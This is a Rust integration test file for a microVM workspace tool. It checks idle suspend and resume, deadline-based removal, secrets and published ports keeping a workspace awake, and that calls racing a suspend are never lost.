    let deadline = status["expires_unix"].as_u64().expect("expires_unix");
    // No pyro command runs from here on: the VMM itself must act. It
    // removes everything in the directory (its disks included); the
    // directory's own entry is not its to remove under its sandbox.
    let dir = home.path("data/pyro/workspaces").join(&id);
    let now = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs()
    };
    let emptied = || std::fs::read_dir(&dir).map_or(true, |mut d| d.next().is_none());
    while !emptied() {
        assert!(
            now() < deadline + 30,
            "the workspace outlived its deadline by 30 s"
        );
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    assert!(now() + 1 >= deadline, "removed before its deadline");
    // The next pyro command sweeps the empty directory.
    assert_eq!(
        home.json(&["workspace", "list"]).as_array().unwrap().len(),
        0
    );
    assert!(!dir.exists(), "the empty directory was not swept");
}

/// Polls workspace `id`'s status until `done` holds (60 s at most: an
/// idle suspend flushes /workspace and writes the guest memory in use).
fn status_until(home: &Home, id: &str, what: &str, done: impl Fn(&Value) -> bool) -> Value {
    let started = std::time::Instant::now();
    loop {
        let status = home.json(&["workspace", "status", id]);
        if done(&status) {
            return status;
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(60),
            "workspace {id} not {what} within 60 s: {status}"
        );
        std::thread::sleep(std::time::Duration::from_millis(250));
    }
}

fn suspended_on_idle(status: &Value) -> bool {
    status["state"] == "suspended" && status["suspended_by"] == "idle"
}

#[test]
fn an_idle_workspace_costs_next_to_nothing_is_suspended_and_the_next_call_resumes_it() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let id = home.create(&["--idle-suspend-seconds", "900"]);
    let vm_dir = home.path("data/pyro/workspaces").join(&id).join("vm");

    // What only this machine has: a file in guest memory (/tmp is a
    // tmpfs), a process in its own session; and a file on its disk.
    home.sh(
        &id,
        "echo in-memory > /tmp/mem; echo kept > /workspace/kept; \
         setsid sleep 1000 </dev/null >/dev/null 2>&1 & pid=$!; echo $pid > /workspace/pid; \
         while [ \"$(cut -d' ' -f6 /proc/$pid/stat)\" != $pid ]; do sleep 0.05; done",
    );
    let check = "cat /tmp/mem; [ \"$(tr '\\0' ' ' < /proc/$(cat /workspace/pid)/cmdline)\" = \
                 'sleep 1000 ' ] && echo alive";

    // A short idle time, taken at once by the running VM. A command that
    // runs longer keeps it awake: its stream is open.
    let updated = home.json(&["workspace", "update", &id, "--idle-suspend-seconds", "2"]);
    assert_eq!(updated["idle_suspend_seconds"], 2, "{updated}");
    assert_eq!(home.sh(&id, "sleep 5; echo done"), "done\n");

    // Left alone, it is suspended: no VMM runs, list and status say so.
    let status = status_until(&home, &id, "suspended on idle", suspended_on_idle);
    assert!(status["last_error"].is_null(), "{status}");
    assert!(
        home.running_vmm(&id).is_none(),
        "a suspended workspace has no VMM"
    );
    let list = home.ok(&["workspace", "list"]);
    assert!(list.contains("[suspended (idle)]"), "{list}");

    // The next exec resumes the same machine and says how long that took.
    let exec_json = |argv: &[&str]| -> Value {
        let args = [&["workspace", "exec", &id, "--json", "--"][..], argv].concat();
        serde_json::from_str(&home.ok(&args)).unwrap()
    };
    let exec = exec_json(&["sh", "-c", check]);
    assert_eq!(exec["stdout"], "in-memory\nalive\n", "{exec}");
    let resumed_ms = exec["resumed_ms"].as_u64().expect("resumed_ms");
    eprintln!("resumed on exec in {resumed_ms} ms");
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "running", "{status}");
    assert_eq!(status["last_start"], "resumed", "{status}");
    assert!(exec_json(&["true"])["resumed_ms"].is_null());

    // A file read resumes it too, the disk's content intact.
    status_until(&home, &id, "suspended on idle", suspended_on_idle);
    assert_eq!(home.read(&id, "kept"), "kept\n");
    assert_eq!(home.sh(&id, check), "in-memory\nalive\n");

    // A running service keeps it awake; the VMM's log says why. Once the
    // service stops, it is suspended.
    home.ok(&[
        "workspace",
        "service",
        "start",
        &id,
        "web",
        "--",
        "sleep 1000",
    ]);
    std::thread::sleep(std::time::Duration::from_secs(6));
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "running", "{status}");
    let log = std::fs::read_to_string(vm_dir.join("vmm.log")).unwrap();
    assert!(log.contains("not suspended: service \"web\" runs"), "{log}");
    home.ok(&["workspace", "service", "stop", &id, "web"]);
    status_until(&home, &id, "suspended on idle", suspended_on_idle);

    // A workspace with secrets is never suspended (its memory would hold
    // their values on disk). Set while it is suspended, the secret is
    // installed when the next call resumes it.
    home.ok(&[
        "workspace",
        "secret",
        "set",
        &id,
        "TOKEN",
        "--value",
        "s3cret",
    ]);
    assert_eq!(
        home.ok(&[
            "workspace",
            "exec",
            &id,
            "--secret-env",
            "TOKEN",
            "--",
            "sh",
            "-c",
            "echo ${#TOKEN}"
        ]),
        "6\n"
    );
    std::thread::sleep(std::time::Duration::from_secs(6));
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "running", "{status}");

    // 0: never.
    home.ok(&["workspace", "secret", "unset", &id, "TOKEN"]);
    home.ok(&["workspace", "update", &id, "--idle-suspend-seconds", "0"]);
    std::thread::sleep(std::time::Duration::from_secs(5));
    assert_eq!(home.json(&["workspace", "status", &id])["state"], "running");
    assert_eq!(home.sh(&id, "cat /workspace/kept"), "kept\n");

    // Idle and running, the VMM (its vCPU included: a guest that wakes
    // shows there) uses at most 0.3% of a core. After activity the guest
    // writes its dirty pages out for a few seconds (its flusher wakes
    // every 5 s while there are some), later on a loaded host: so up to
    // four 10 s windows, and the quietest counts. A guest that ticks
    // fails every one.
    let pid: u32 = home.vmm_pid(&id).parse().unwrap();
    let mut windows = Vec::new();
    while windows.len() < 4 && windows.iter().all(|&ns| ns >= 30_000_000) {
        let before = common::cpu_ns(pid);
        std::thread::sleep(std::time::Duration::from_secs(10));
        windows.push(common::cpu_ns(pid) - before);
    }
    eprintln!("an idle workspace's VMM used {windows:?} ns of CPU in 10 s windows");
    let used = *windows.iter().min().unwrap();
    assert!(
        used < 30_000_000,
        "{windows:?} ns in 10 s windows: more than 0.3% of a core"
    );

    // `stop` of a workspace suspended on idle stops it: the kept memory
    // goes, and the next call says to start it.
    home.ok(&["workspace", "update", &id, "--idle-suspend-seconds", "2"]);
    status_until(&home, &id, "suspended on idle", suspended_on_idle);
    let stopped = home.json(&["workspace", "stop", &id]);
    assert_eq!(stopped["state"], "stopped", "{stopped}");
    assert!(stopped["last_error"].is_null(), "{stopped}");
    let (kind, msg) = home.fails(1, &["workspace", "exec", &id, "--", "true"]);
    assert!(
        kind == "conflict" && msg.contains("workspace start"),
        "{msg}"
    );
    let started = home.json(&["workspace", "start", &id]);
    assert_eq!(started["last_start"], "warm", "{started}");
}

#[test]
fn calls_racing_an_idle_suspend_are_never_lost() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    let id = home.create(&["--idle-suspend-seconds", "1"]);
    // Two callers. The first pauses long enough for a suspend after
    // each of its calls; the second's pauses drift against the first's
    // by an eighth of a second a round, so its calls sweep across the
    // suspends: before, during and after. Each call must run exactly
    // once: a client the suspending VMM turned away waits, resumes and
    // connects again.
    std::thread::scope(|s| {
        for caller in 0..2 {
            let (home, id) = (&home, &id);
            s.spawn(move || {
                for round in 0..8 {
                    let pause = 2500 + caller * (500 + 125 * round);
                    std::thread::sleep(std::time::Duration::from_millis(pause));
                    let line = format!("{caller}-{round}");
                    let out = home.sh(id, &format!("echo {line} >> /workspace/calls; echo {line}"));
                    assert_eq!(out, format!("{line}\n"));
                }
            });
        }
    });
    let calls = home.read(&id, "calls");
    let mut lines: Vec<&str> = calls.lines().collect();
    lines.sort_unstable();
    let mut want: Vec<String> = (0..2)
        .flat_map(|c| (0..8).map(move |r| format!("{c}-{r}")))
        .collect();
    want.sort_unstable();
    assert_eq!(lines, want, "each call ran exactly once");
    let logs = home.json(&["workspace", "logs", &id]);
    let entries = logs.as_array().expect("a list");
    let resumed = entries.iter().filter(|e| e["resumed_ms"].is_u64()).count();
    let log = home
        .path("data/pyro/workspaces")
        .join(&id)
        .join("vm/vmm.log");
    let aborted = std::fs::read_to_string(log).unwrap_or_default();
    eprintln!(
        "{resumed} of {} calls resumed the workspace; suspends called off: {}",
        entries.len(),
        aborted.matches("not suspended").count()
    );
    assert!(entries.iter().all(|e| e["status"] == "finished"), "{logs}");
}

#[test]
fn an_open_connection_to_a_published_port_keeps_an_idle_workspace_awake() {
    if !pyro_workspace::testing::guests_available() {
        return;
    }
    let home = Home::new();
    // --idle-suspend-services: the service alone does not keep it awake,
    // so what does is the connection.
    let id = home.create(&[
        "--network-policy",
        "published-ports",
        "--publish",
        "8000",
        "--idle-suspend-seconds",
        "2",
        "--idle-suspend-services",
    ]);
    // A guest server that greets each client and keeps the connection
    // until the client closes it (a child per client; perl-base is in
    // every image).
    let server = "exec perl -MIO::Socket::INET -e '$SIG{CHLD} = \"IGNORE\"; \
                  $s = IO::Socket::INET->new(LocalPort => 8000, Listen => 5, ReuseAddr => 1) \
                  or die $!; while ($c = $s->accept) { if (!fork) { print $c \"hi\\n\"; \
                  $c->flush; 1 while <$c>; exit } close $c }'";
    home.ok(&[
        "workspace",
        "service",
        "start",
        &id,
        "hold",
        "--ready-tcp",
        "8000",
        "--",
        server,
    ]);
    let ports = home.json(&["workspace", "port", "list", &id]);
    let port = ports["ports"][0]["host_port"].as_u64().expect("published") as u16;
    let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    conn.set_read_timeout(Some(std::time::Duration::from_secs(30)))
        .unwrap();
    let mut hi = [0u8; 3];
    std::io::Read::read_exact(&mut conn, &mut hi).unwrap();
    assert_eq!(&hi, b"hi\n");

    std::thread::sleep(std::time::Duration::from_secs(6));
    let status = home.json(&["workspace", "status", &id]);
    assert_eq!(status["state"], "running", "an open connection: {status}");

    // Closed, nothing keeps it awake (the service runs on in the kept
    // memory).
    drop(conn);
    status_until(&home, &id, "suspended on idle", suspended_on_idle);
    let services = home.ok(&["workspace", "service", "list", &id]);
    assert!(services.contains("hold"), "{services}");
}
